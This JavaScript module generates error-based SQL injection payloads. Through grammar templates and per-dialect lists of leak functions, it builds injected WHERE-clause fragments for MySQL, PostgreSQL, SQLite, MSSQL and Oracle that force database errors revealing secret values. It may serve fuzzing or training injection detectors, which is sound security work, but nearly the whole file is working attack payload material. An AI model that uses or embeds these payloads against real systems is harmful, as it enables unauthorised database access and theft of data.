import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Functions that fail with the secret in their message. */
export const errorBased = sqlGenerator({
  name: 'error-based',
  places: WHERE_PLACES,
  rules: {
    start: ['{open} {and} {leak}{close}', '{open} {and} {scan:a}={leak} {comment}', '{open} {and} ({leak})>0{close}'],
    and: ['AND', 'and', 'OR', 'or'],
  },
  byDialect: {
    mysql: {
      leak: [
        'EXTRACTVALUE({digit},{joined})',
        'UPDATEXML({digit},{joined},{digit})',
        '(SELECT {digit} FROM (SELECT COUNT(*),CONCAT({secret},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
        'EXP(~(SELECT * FROM (SELECT {who})x))',
        '(SELECT 2*(IF((SELECT * FROM (SELECT {joined})s),8446744073709551610,8446744073709551610)))',
        'ROW({digit},{scan})>(SELECT COUNT(*),CONCAT({secret},FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2 UNION SELECT 3)a GROUP BY x)',
        '(SELECT id FROM users)',
        'ST_LATFROMGEOHASH({joined})',
        'JSON_KEYS((SELECT CONVERT({joined} USING utf8)))',
        'POLYGON((SELECT * FROM (SELECT {who})f))',
      ],
    },
    postgres: {
      leak: [
        '{scan}=CAST(({joined}) AS NUMERIC)',
        'CAST({secret} AS int)=1',
        '{digit}=({joined})::int',
        '1=1/(SELECT 0)',
        '(SELECT id FROM users)=1',
        'CAST(CHR(126)||{secret} AS date) IS NULL',
        '1=CAST(version() AS int)',
        '(SELECT {all})::xml IS NULL',
        '{digit}/(CASE WHEN {length}>0 THEN 0 ELSE 1 END)=1',
        'json_object_keys(({joined})::json) IS NOT NULL',
        "QUERY_TO_XML('select {secret}::int',true,true,'') IS NULL",
      ],
      start: ['{open} {and} {leak}{close}', '{open} {and} {leak} {comment}', '{open} {and} ({leak}){close}'],
    },
    sqlite: {
      leak: [
        'ABS(-9223372036854775808)',
        'json({joined})',
        "json_extract({joined},'$.a')",
        'json_array_length({joined})',
        'load_extension({joined})',
        'CASE WHEN {length}>0 THEN abs(-9223372036854775808) ELSE 0 END',
        "json_extract('[]',{joined})",
        'fts3_tokenizer({joined})',
        'SUM(9223372036854775807+id)',
        "printf('%s',json({secret}))",
      ],
      start: ['{open} {and} {leak}{close}', '{open} {and} {leak} {comment}', '{open} {and} 1={leak}{close}'],
    },
    mssql: {
      leak: [
        'CONVERT(INT,{joined})',
        '{scan} IN (SELECT ({joined}))',
        'CAST({secret} AS INT)',
        '(SELECT TOP 1 CAST({column} AS INT) FROM {table})',
        'DB_NAME(CONVERT(INT,{version}))',
        '1/0',
        'PARSENAME({secret},0)+FILE_NAME({secret})',
        'QUOTENAME({secret})',
      ],
    },
    oracle: {
      leak: [
        'CTXSYS.DRITHSX.SN({digit},{joined})',
        'UTL_INADDR.GET_HOST_ADDRESS({joined})',
        '(SELECT UPPER(XMLTYPE(CHR(60)||{joined}||CHR(62))) FROM DUAL)',
        'TO_NUMBER({joined})',
        'ORDSYS.ORD_DICOM.GETMAPPINGXPATH({joined},{digit})',
        'DBMS_UTILITY.SQLID_TO_SQLHASH(({joined}))',
        "EXTRACTVALUE(XMLTYPE('<x/>'),{joined})",
        'DBMS_XDB_VERSION.CHECKIN({joined})',
      ],
    },
  },
});
